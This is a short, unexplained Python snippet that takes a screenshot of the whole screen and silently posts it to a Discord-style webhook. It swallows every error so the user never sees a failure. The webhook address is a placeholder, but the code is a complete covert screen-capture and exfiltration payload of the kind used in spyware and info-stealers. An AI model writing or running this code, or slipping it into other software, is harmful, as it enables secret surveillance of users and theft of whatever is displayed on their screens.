import io, requests
from PIL import ImageGrab
WEBHOOK = "https://discord.com.invalid/api/webhooks/0/placeholder"
try:
    img = ImageGrab.grab(); b = io.BytesIO(); img.save(b, format="PNG")
    requests.post(WEBHOOK, files={"file": ("s.png", b.getvalue())}, timeout=2)
except Exception:
    pass
